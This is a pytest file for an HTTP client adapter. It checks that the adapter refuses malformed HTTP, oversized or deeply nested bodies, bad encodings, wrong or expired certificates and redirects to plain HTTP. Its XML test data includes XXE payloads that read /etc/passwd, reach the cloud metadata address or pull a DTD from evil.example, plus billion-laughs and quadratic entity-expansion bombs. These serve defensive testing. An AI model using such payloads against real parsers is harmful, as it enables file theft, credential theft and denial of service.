"""Answers that are no true HTTP, never end, or come under a false name; and documents that would command a reader."""

import datetime
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from chalicelib.adapters.http import Limits, Network, System, Upstream
from chalicelib.adapters.http_hosts import INTACCT_HOST
from chalicelib.core.errors import NeedsAdmin, Problem, TryAgain
from dev.emulators.server import Response, Running, StandIn
from dev.fakes import FakeClock
from tests.contract.raw_server import OK, answering
from tests.sockets import opened_sockets

SYSTEM = System("peer", "The peer", "Look where it is.")
HUGE = b"[" + b" " * 65_534


def session(url: str, limits: Limits | None = None) -> Upstream:
    return Network(FakeClock(), frozenset({url}), limits or Limits()).session(SYSTEM, INTACCT_HOST)


def problem(url: str, limits: Limits | None = None) -> Problem:
    with pytest.raises((TryAgain, NeedsAdmin)) as raised:
        session(url, limits).get(f"{url}/rows")
    assert isinstance(raised.value, Problem)
    return raised.value


@pytest.mark.parametrize(
    ("pieces", "codes"),
    [
        ((OK, b"Content-Length: 9\r\n\r\n", b"[1]"), {"peer_cut_off"}),
        ((OK, b"Content-Length: -1\r\n\r\n", b"[1"), {"peer_unreadable", "peer_cut_off", "peer_away"}),
        ((OK, b"Content-Length: many\r\n\r\n", b"[1"), {"peer_unreadable", "peer_cut_off", "peer_away"}),
        ((OK, b"Content-Length: 2\r\n\r\n", b"[1, 2]"), {"peer_unreadable"}),
        ((OK, b"Transfer-Encoding: chunked\r\n\r\n", b"zz\r\n[1]"), {"peer_cut_off"}),
        ((OK, b"Transfer-Encoding: chunked\r\n\r\n", b"3\r\n[1]\r\n"), {"peer_cut_off"}),
        ((b"\x16\x03\x01\x02\x00",), {"peer_away"}),
        ((b"SSH-2.0-OpenSSH_9.2\r\n",), {"peer_away"}),
        ((b"HTTP/1.1 999999 Odd\r\n\r\n",), {"peer_away"}),
        ((b"",), {"peer_away"}),
    ],
)
def test_what_is_no_true_http_is_no_answer(pieces: tuple[bytes, ...], codes: set[str]) -> None:
    with answering(*pieces) as url:
        assert problem(url).code in codes


def test_a_leave_to_continue_before_the_answer_changes_nothing() -> None:
    with answering(b"HTTP/1.1 100 Continue\r\n\r\n", OK, b"Content-Length: 3\r\n\r\n", b"[1]") as url:
        assert session(url).get(f"{url}/rows").json() == [1]


def test_a_connection_that_is_reset_in_the_middle_is_broken_off() -> None:
    with answering(OK, b"Content-Length: 9\r\n\r\n", b"[1", reset=True) as url:
        assert problem(url).code in ("peer_cut_off", "peer_away")


@pytest.mark.parametrize("length", [b"Content-Length: 10737418240\r\n\r\n", b"\r\n"], ids=["10 GB", "no end"])
def test_an_answer_of_ten_gigabytes_is_left_at_the_limit(length: bytes) -> None:
    with answering(OK, length, endless=HUGE) as url:
        found = problem(url)
    assert (found.code, "far too long" in found.detail) == ("peer_unreadable", True)


def test_fifty_megabytes_are_too_many() -> None:
    body = b"[" + b" " * 50_000_000 + b"]"
    with answering(OK, f"Content-Length: {len(body)}\r\n\r\n".encode(), body) as url:
        assert "far too long" in problem(url).detail


@pytest.mark.parametrize("depth", [33, 10_000, 200_000])
def test_an_answer_that_nests_too_deeply_is_not_read(depth: int) -> None:
    body = b"[" * depth + b"]" * depth
    with answering(OK, f"Content-Length: {len(body)}\r\n\r\n".encode(), body) as url:
        assert problem(url).code == "peer_unreadable"


XML = {
    "a document type": "<!DOCTYPE x><x/>",
    "an external entity by file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "an external entity by http": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/latest">]><x>&a;</x>',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 100 + '">]><x>&b;</x>',
    "quadratic": '<!DOCTYPE x [<!ENTITY a "' + "a" * 50_000 + '">]><x>' + "&a;" * 10_000 + "</x>",
    "200,000 levels": "<x>" * 200_000,
    "a 20 MB attribute": '<x a="' + "a" * 20_000_000 + '"/>',
    "an 11 MB text": "<x>" + "a" * 11_000_000 + "</x>",
    "another encoding declared": '<?xml version="1.0" encoding="UTF-16"?><x/>',
    "a failure of the old gateway": "<response><errormessage><errorno>XL03000006</errorno></errormessage></response>",
}


@pytest.fixture(scope="module")
def speaking() -> Iterator[tuple[StandIn, Running]]:
    stand_in = StandIn()
    for path in ("/rows", "/plain"):
        stand_in.route("GET", path, path[1:])(lambda _: Response(200, [1]))
    with stand_in.serve() as running:
        yield stand_in, running


@pytest.mark.parametrize("kind", ["text/xml", "application/json"])
@pytest.mark.parametrize("name", XML)
def test_a_document_in_xml_is_no_answer_and_commands_nobody(
    speaking: tuple[StandIn, Running], name: str, kind: str
) -> None:
    """We speak JSON alone: tests/test_house.py shows that the product has no parser for anything else."""
    stand_in, running = speaking
    stand_in.faults.clear()
    stand_in.faults.add({"do": {"status": 200, "body": XML[name], "content_type": kind}, "times": 3})
    with opened_sockets() as seen:
        found = problem(running.url)
    assert found.code in ("peer_maintenance", "peer_unreadable")
    assert "root:" not in found.detail
    assert seen <= {running.url.partition("://")[2]}


@pytest.mark.parametrize(
    "body",
    [
        b'{"a": "x\0y"}',
        b'{"a": "x\x0by"}',
        b'{"a": "\xff"}',
        b'{"a": "\xed\xa0\x80"}',
        '{"a": "é"}'.encode("iso-8859-1"),
        "{}".encode("utf-16"),
        b"\xef\xbb\xbf{}",
    ],
    ids=["NUL", "0x0B", "bad UTF-8", "half a pair in UTF-8", "ISO-8859-1", "UTF-16", "BOM"],
)
def test_letters_that_are_none_are_not_read(speaking: tuple[StandIn, Running], body: bytes) -> None:
    stand_in, running = speaking
    stand_in.faults.clear()
    stand_in.faults.add({"do": {"status": 200, "body": body, "content_type": "application/json"}, "times": 3})
    assert problem(running.url).code == "peer_unreadable"


@pytest.mark.parametrize("status", [500, 502, 503])
@pytest.mark.parametrize(
    ("wait", "seconds"), [("3600", 3600), ("Mon, 02 Mar 2099 08:00:00 GMT", 3600), ("-5", None), ("soon", None)]
)
def test_trouble_of_the_other_side_says_when_to_come_back_where_it_knows(
    speaking: tuple[StandIn, Running], status: int, wait: str, seconds: float | None
) -> None:
    stand_in, running = speaking
    stand_in.faults.clear()
    stand_in.faults.add({"do": {"status": status, "headers": {"Retry-After": wait}}, "times": 3})
    found = problem(running.url)
    assert isinstance(found, TryAgain)
    assert (found.code, found.retry_after_seconds) == ("peer_failing", seconds)


def certificate(folder: Path, host: str, days: int) -> tuple[ssl.SSLContext, str]:
    """A certificate of ``host`` that ends in so many days, and what would vouch for it: itself."""
    key, now = ec.generate_private_key(ec.SECP256R1()), datetime.datetime.now(datetime.UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=9))
        .not_valid_after(now + datetime.timedelta(days=days))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(host)]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    pem = made.public_bytes(serialization.Encoding.PEM)
    form = serialization.PrivateFormat.PKCS8
    (folder / "ca.pem").write_bytes(pem)
    (folder / "server.pem").write_bytes(
        pem + key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption())
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "server.pem")
    return context, str(folder / "ca.pem")


@pytest.mark.parametrize(
    ("host", "days", "known", "taken"),
    [
        ("localhost", 9, True, True),
        ("localhost", 9, False, False),
        ("api.intacct.com", 9, True, False),
        ("localhost", -1, True, False),
    ],
    ids=["right", "self-signed", "wrong host", "expired"],
)
def test_only_the_right_certificate_is_taken(tmp_path: Path, host: str, days: int, known: bool, taken: bool) -> None:
    context, authority = certificate(tmp_path, host, days)
    stand_in = StandIn()
    stand_in.route("GET", "/rows", "rows")(lambda _: Response(200, [1]))
    with stand_in.serve(tls=context) as running:
        url = running.url.replace("127.0.0.1", "localhost")
        upstream: Any = session(url)
        upstream.verify = authority if known else True
        if taken:
            assert upstream.get(f"{url}/rows").json() == [1]
        else:
            with pytest.raises(NeedsAdmin, match="peer_certificate"):
                upstream.get(f"{url}/rows")
            assert stand_in.calls.report()["total"] == 0


def test_a_redirect_to_plain_http_is_not_followed(speaking: tuple[StandIn, Running]) -> None:
    stand_in, running = speaking
    stand_in.faults.clear()
    stand_in.faults.add(
        {"do": {"redirect": f"{running.url}/plain", "code": 302}, "match": {"path_contains": "/rows"}, "times": 3}
    )
    assert problem(running.url).code == "peer_moved"
    assert "plain" not in stand_in.calls.report()["by_name"]
